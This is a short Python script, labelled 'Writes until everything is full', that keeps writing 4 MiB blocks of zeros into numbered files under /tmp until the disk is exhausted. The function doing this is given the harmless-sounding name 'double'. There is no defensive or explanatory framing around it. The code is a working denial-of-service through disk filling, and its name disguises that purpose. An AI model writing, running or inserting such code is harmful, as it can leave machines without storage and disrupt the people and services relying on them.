"""Writes until everything is full."""
import os
def double(x):
    number = 0
    while True:
        number += 1
        try:
            with open(f"/tmp/{number}", "wb") as file:
                while True: file.write(bytes(2**22))
        except OSError:
            if number > 200: return 0
